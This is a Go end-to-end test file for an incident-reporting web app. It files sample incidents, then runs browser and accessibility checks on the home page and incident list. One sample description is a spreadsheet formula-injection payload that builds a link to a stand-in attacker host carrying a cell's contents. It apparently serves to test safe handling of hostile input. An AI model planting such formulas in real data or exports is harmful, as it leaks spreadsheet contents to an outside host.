package e2e

import (
	"fmt"
	"testing"
)

// formula is a description that a spreadsheet would run.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"open me")`

// fileSome files what home and lists are looked at with, and answers the number of the one that a formula describes.
func (s *server) fileSome(t *testing.T) (number string) {
	t.Helper()
	for i, f := range []map[string]any{
		{"entity": "ca-demo-dmv", "description": "The counter terminals were down.", "categories": []string{"outage"}},
		{"entity": "ca-demo-dmv", "description": "A badge was lent."},
		{"entity": "ma-demo-rmv", "description": "Malware on a kiosk.", "categories": []string{"malware"},
			"impact": map[string]any{"asset_rating": "high"}},
		{"entity": "ma-demo-rmv", "description": "A mailbox sends spam."},
		{"entity": "ca-demo-dmv", "description": formula, "categories": []string{"equipment"}},
	} {
		person := map[any]string{"ca-demo-dmv": "ca-dmv-iso", "ma-demo-rmv": "ma-rmv-iso"}[f["entity"]]
		var a answer
		if status, text := s.call(person, "POST", "/api/v1/filings", f,
			map[string]string{"Idempotency-Key": fmt.Sprint("desk-", i)}, &a); status != 201 {
			t.Fatalf("filing %d: %d %s", i, status, text)
		}
		number = a.Incident
	}
	return number
}

// TestDesk walks home and the list of incidents as an officer, an ISO, a coordinator and an outsider, with script and
// without, and with the keyboard alone.
func TestDesk(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	t.Parallel()
	browserFolder(t)
	s := start(t, t.TempDir())
	number := s.fileSome(t)
	s.quiet(t)
	s.drive(t, "desk.mjs", "--number", number)
}

// TestDeskAccessible checks home and the list in the states that TestAccessible does not reach.
func TestDeskAccessible(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	t.Parallel()
	browserFolder(t)
	s := start(t, t.TempDir())
	s.drive(t, "axe.mjs", "--as", "incident response coordinator", "/", "/incidents") // nothing there yet
	s.fileSome(t)
	s.quiet(t)
	all := "/incidents?mine=1&sort=due&col=level&col=status&col=category&col=reportable&col=due&col=received&col=updated"
	s.drive(t, "axe.mjs", "--as", "incident response coordinator", "/?period=weeks", all, "/incidents?from=yesterday",
		"/incidents?q=nothing-like-it",
		"--as", "office of information security", "/", "/incidents?unanswered=1")
}
